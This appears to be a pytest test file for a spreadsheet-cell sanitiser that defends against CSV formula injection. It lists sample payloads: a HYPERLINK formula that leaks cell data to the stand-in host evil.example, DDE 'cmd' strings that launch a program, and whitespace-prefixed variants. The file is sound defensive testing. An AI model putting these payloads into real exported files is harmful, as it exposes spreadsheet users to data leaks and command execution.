"""Spreadsheet-safe cells (laborlens.core.cells): the OWASP CSV-injection rule."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from laborlens.core.cells import is_formula_like, safe_cell, safe_row, safe_text, xlsx_text

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@SUM(A1)",
    "＝1+1",  # full-width equals sign
    "-",
    "+",
    "=",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_made_inert(payload: str) -> None:
    assert is_formula_like(payload)
    assert safe_text(payload) == "'" + payload
    assert not is_formula_like(safe_text(payload))


@pytest.mark.parametrize(
    "value",
    ["-12.5", "+3", "-1e5", "-0,75", "-.5", "Foo Ltd", "新疆大全", "a=b", "", "'=quoted", "1-2"],
)
def test_numbers_and_plain_text_are_unchanged(value: str) -> None:
    assert not is_formula_like(value)
    assert safe_text(value) == value


def test_non_text_values_pass_through() -> None:
    assert safe_cell(-3) == -3
    assert safe_cell(-2.5) == -2.5
    assert safe_cell(None) is None
    assert safe_row(["=1", 2, None, "-1"]) == ["'=1", 2, None, "-1"]


def test_xlsx_text_drops_characters_xml_cannot_hold_and_caps_length() -> None:
    assert xlsx_text("a\x00b\x1fc\td") == "abc\td"
    assert xlsx_text("=\x01cmd") == "'=cmd"
    assert len(xlsx_text("x" * 40_000)) == 32_767


@settings(max_examples=1000, deadline=None)
@given(st.text(max_size=40))
def test_safe_text_is_inert_idempotent_and_reversible(text: str) -> None:
    out = safe_text(text)
    assert not is_formula_like(out)
    assert safe_text(out) == out
    assert out in (text, "'" + text)
